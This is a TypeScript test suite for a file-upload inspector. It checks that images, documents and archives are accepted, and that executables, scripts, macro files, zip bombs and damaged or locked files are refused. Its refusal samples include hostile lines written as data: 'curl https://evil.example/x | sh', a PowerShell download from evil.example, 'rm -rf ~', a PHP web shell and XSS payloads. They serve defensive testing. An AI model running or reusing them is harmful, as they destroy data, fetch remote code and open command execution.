import { randomBytes } from 'node:crypto'
import { gzipSync } from 'node:zlib'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { compoundOf, heifOf, jpegOf, pngOf, zipOf } from '../transfers/sample-files.suite'
import { excel, inspect, latin, part, word } from './inspect-sample.suite'

const OLD_EXCEL = compoundOf(['Workbook'])

const accepted: [string, Uint8Array | string, string, string?][] = [
  ['a JPEG', jpegOf(4_000, 3_000), 'image/jpeg'],
  ['a JPEG whose size stands behind 2 MB of previews', jpegOf(4_000, 3_000, 2_000_000), 'image/jpeg'],
  ['a PNG', pngOf(800, 600), 'image/png'],
  ['a GIF', latin('GIF89a\x10\0\x10\0\0\0\0;'), 'image/gif'],
  ['a WebP', latin('RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0/\x0f\xc0\x03\0\0\0\0\0\0\0\0\0'), 'image/webp'],
  ['a HEIC', heifOf('heic', 4_032, 3_024), 'image/heic'],
  ['a HEIF of another kind', heifOf('mif1', 4_032, 3_024), 'image/heif'],
  ['an AVIF', heifOf('avif', 800, 600), 'image/avif'],
  ['a PDF', latin('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\0'), 'application/pdf'],
  ['a PDF in plain characters', '%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n', 'application/pdf'],
  ['a video of a phone', latin('\0\0\0\x18ftypmp42\0\0\0\0mp42isom\0\0\0\x08mdat'), 'video/mp4'],
  ['a workbook', zipOf(...excel), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
  ['a letter', zipOf(...word), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
  [
    'slides',
    zipOf(part('[Content_Types].xml'), part('ppt/presentation.xml')),
    'application/vnd.openxmlformats-officedocument.presentationml.presentation',
  ],
  [
    'a letter with packed drawings',
    zipOf(...word, part('word/media/image1.emz', gzipSync('drawing'))),
    'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  ],
  [
    'an ODS',
    zipOf(part('mimetype', 'application/vnd.oasis.opendocument.spreadsheet'), part('content.xml')),
    'application/vnd.oasis.opendocument.spreadsheet',
  ],
  ['an old workbook', OLD_EXCEL, 'application/vnd.ms-excel'],
  ['an old letter', compoundOf(['1Table', 'WordDocument']), 'application/msword'],
  [
    'a zip of photos and a list',
    zipOf(part('photos/'), part('photos/1.jpg', jpegOf(100, 100)), part('list.csv', 'a;b\n1;2\n')),
    'application/zip',
  ],
  ['a zip with a workbook in it', zipOf(part('list.xlsx', zipOf(...excel))), 'application/zip'],
  ['an empty zip', zipOf(), 'application/zip'],
  ['a CSV', 'sku;qty;price\n1;2;3\n4;5;6\n', 'text/csv'],
  ['a CSV by its name alone', 'one column\nonly\n', 'text/csv', 'list.csv'],
  [
    'a table from Excel in UTF-16',
    Buffer.concat([latin('\xff\xfe'), Buffer.from('sku\tqty\n1\t2\n', 'utf16le')]),
    'text/csv',
  ],
  ['a text', 'We have 500 boots. Let us know = soon. Import: 4% (see document. Window shop).', 'text/plain'],
  [
    'a Greek text in an old code page',
    latin('\xd0\xf1\xef\xf3\xf6\xef\xf1\xdc 500 \xea\xe9\xe2\xfe\xf4\xe9\xe1'),
    'text/plain',
  ],
  ['a text that begins with MZ', 'MZ-1000 boots, 40 pairs', 'text/plain'],
]
test.each(accepted)('%s is accepted', async (_, bytes, type, name) => expect(await inspect(bytes, name)).toBe(type))

const programs: [string, Uint8Array | string][] = [
  ['a Windows program', latin('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0')],
  ['a Linux program', latin('\x7fELF\x02\x01\x01\0')],
  ['a Mac program', latin('\xcf\xfa\xed\xfe\x07\0\0\x01')],
  ['a Java class', latin('\xca\xfe\xba\xbe\0\0\0\x34')],
  ['an Android program', latin('dex\n035\0')],
  ['a Windows shortcut', latin('L\0\0\0\x01\x14\x02\0\0\0\0\0')],
  ['the scanners test file', 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'],
  ['a shell script', '#!/bin/sh\nrm -rf ~\n'],
  ['a shell script without its first line', 'cd /tmp\ncurl https://evil.example/x | sh\n'],
  ['a batch file', '@echo off\r\ndel *.*\r\n'],
  ['PowerShell', 'Invoke-WebRequest http://evil.example -OutFile x.exe'],
  ['JavaScript', 'const fs = require("fs")\nfs.rmSync("/")\n'],
  ['JavaScript in one line', '(function(){window.location="http://evil.example"})()'],
  ['VBScript', 'Set s = CreateObject("WScript.Shell")\ns.Run "calc"\n'],
  ['Python', 'import os\nos.remove("x")\n'],
  ['PHP', '<?php system($_GET[0]);'],
  ['a page', '<!DOCTYPE html><title>x</title><script>alert(1)</script>'],
  ['a page behind comments and spaces', '\n \n<!-- x -->\n<HTML><body onload=alert(1)>'],
  ['a page in UTF-16', Buffer.concat([latin('\xff\xfe'), Buffer.from('<html><script>', 'utf16le')])],
  ['an SVG', '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
  ['an installer', compoundOf(['Property'], '84100c000000000000c000000000000046'.slice(0, 32))],
  ['an old workbook with macros', compoundOf(['Workbook', '_VBA_PROJECT_CUR'])],
  ['an old letter with a program in it', compoundOf(['WordDocument', '\x01Ole10Native'])],
  ['a workbook with macros', zipOf(...excel, part('xl/vbaProject.bin', 'x'))],
  ['a workbook with macros of the old kind', zipOf(...excel, part('xl/macrosheets/sheet1.xml'))],
  ['a workbook with a program as a picture', zipOf(...excel, part('xl/media/a.png', latin('MZ\x90\0\x03\0')))],
  [
    'an ODS with macros',
    zipOf(part('mimetype', 'application/vnd.oasis.opendocument.spreadsheet'), part('Basic/Standard/Module1.xml')),
  ],
  ['a JAR', zipOf(part('META-INF/MANIFEST.MF', 'Main-Class: X'), part('X.class', latin('\xca\xfe\xba\xbe')))],
  ['an APK', zipOf(part('AndroidManifest.xml', 'x'), part('classes.dex', 'x'))],
  ['a zip with a program by name', zipOf(part('photo.jpg.exe', 'x'))],
  ['a zip with a program by content', zipOf(part('photo.jpg', latin('MZ\x90\0\x03\0')))],
  ['a zip with a script by content', zipOf(part('readme.txt', '#!/bin/sh\n'))],
  ['a program in a zip in a zip', zipOf(part('inner.zip', zipOf(part('a.txt', latin('\x7fELF\x02')))))],
]
test.each(programs)('%s is refused as an executable', async (_, bytes) =>
  expect(await inspect(bytes)).toBe('files.program'),
)

const zeros = Buffer.alloc(11_000_000)
const others: [string, Uint8Array | string, string][] = [
  ['noise', randomBytes(2_000).fill(0, 0, 9), 'files.unsupported_type'],
  ['XML', '<?xml version="1.0"?><catalogue/>', 'files.unsupported_type'],
  ['an archive that cannot be looked into', latin('7z\xbc\xaf\x27\x1c\0\x04'), 'files.unsupported_type'],
  ['a book', zipOf(part('mimetype', 'application/epub+zip')), 'files.unsupported_type'],
  ['a zip bomb by ratio', zipOf(part('a.txt', zeros)), 'files.archive_limits'],
  [
    'a zip bomb by size',
    zipOf(
      ...Array.from({ length: 2 }, (_, n) => ({
        name: `${n}.txt`,
        content: randomBytes(1_000_000),
        claimedSize: 53_000_000,
      })),
    ),
    'files.archive_limits',
  ],
  [
    'a zip bomb by count',
    zipOf(...Array.from({ length: 1_001 }, (_, n) => part(`${n}.txt`, 'x'))),
    'files.archive_limits',
  ],
  ['a zip bomb within', zipOf(part('a.zip', zipOf(part('a.txt', zeros)))), 'files.archive_limits'],
  [
    'three archives in each other',
    zipOf(part('a.zip', zipOf(part('b.zip', zipOf(part('c.txt', 'x')))))),
    'files.archive_limits',
  ],
  [
    'an archive of another kind within',
    zipOf(part('photos.7z', latin('7z\xbc\xaf\x27\x1c\0\x04'))),
    'files.archive_limits',
  ],
  ['a zip under a password', zipOf({ name: 'a.txt', content: 'x', encrypted: true }), 'files.locked'],
  ['a workbook under a password', compoundOf(['EncryptionInfo', 'EncryptedPackage']), 'files.locked'],
  ['a zip without its end', zipOf(...excel).subarray(0, 100), 'files.damaged'],
  [
    'a zip whose list lies about a size',
    zipOf({ name: 'a.txt', content: 'x'.repeat(3_000), claimedSize: 10 }),
    'files.damaged',
  ],
  ['a compound file without its end', OLD_EXCEL.subarray(0, 600), 'files.damaged'],
  ['a PNG of 50 million pixels and more', pngOf(10_000, 5_001), 'files.picture_too_large'],
  ['a JPEG with more', jpegOf(65_000, 65_000), 'files.picture_too_large'],
  ['a HEIC with more', heifOf('heic', 100_000, 100_000), 'files.picture_too_large'],
  ['an AVIF with more', heifOf('avif', 100_000, 100_000), 'files.picture_too_large'],
  ['a HEIF with more', heifOf('mif1', 100_000, 100_000), 'files.picture_too_large'],
  [
    'a HEIC with more before a preview',
    Buffer.concat([heifOf('heic', 100_000, 100_000), heifOf('heic', 100, 100)]),
    'files.picture_too_large',
  ],
  ['a HEIC that ends within its size', heifOf('heic', 4_032, 3_024).subarray(0, -1), 'files.damaged'],
  ['a PNG without width', pngOf(0, 100), 'files.damaged'],
  ['a PNG without height', pngOf(100, 0), 'files.damaged'],
  ['a JPEG without a size', latin('\xff\xd8\xff\xe0\0\x10JFIF\0'), 'files.damaged'],
]
test.each(others)('%s is refused', async (_, bytes, code) => expect(await inspect(bytes)).toBe(code))

test('accepts 50 million pixels', async () => expect(await inspect(pngOf(10_000, 5_000))).toBe('image/png'))

test('any bytes soon give a type or a refusal', async () => {
  const beginnings = [
    '',
    'PK\x03\x04',
    '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
    '\x89PNG\r\n\x1a\n',
    '\xff\xd8\xff',
    '\0\0\0\x18ftypheic',
    'GIF89a',
    '%PDF-',
  ]
  const samples = [zipOf(...excel), OLD_EXCEL, jpegOf(10, 10)]
  const spoiled = fc.tuple(
    fc.constantFrom(...samples),
    fc.array(fc.tuple(fc.nat(3_000), fc.nat(255)), { maxLength: 20 }),
  )
  const inputs = fc.oneof(
    fc
      .tuple(fc.constantFrom(...beginnings), fc.uint8Array({ maxLength: 4_000 }))
      .map(([start, rest]) => Buffer.concat([latin(start), rest])),
    spoiled.map(([sample, changes]) => {
      const bytes = Buffer.from(sample)
      for (const [at, value] of changes) bytes[at % bytes.length] = value
      return bytes
    }),
  )
  await fc.assert(
    fc.asyncProperty(inputs, async (bytes) => {
      expect(await inspect(bytes)).toMatch(/^(?:files\.\w+|\w+\/[\w.+-]+)$/)
    }),
    { numRuns: 2_000 },
  )
})

test.each([
  ' '.repeat(65_536),
  '\n'.repeat(65_536),
  'function '.repeat(8_000),
  'function ('.repeat(7_000),
  'curl '.repeat(13_000),
  '<!-- '.repeat(13_000),
  'let a = '.repeat(9_000),
  'for x in '.repeat(9_000),
  'def a('.repeat(11_000),
  'import '.repeat(10_000),
  `${'a;'.repeat(32_000)}`,
])('inspects long repetitive text in reasonable time', async (text) => {
  await inspect(text)
})
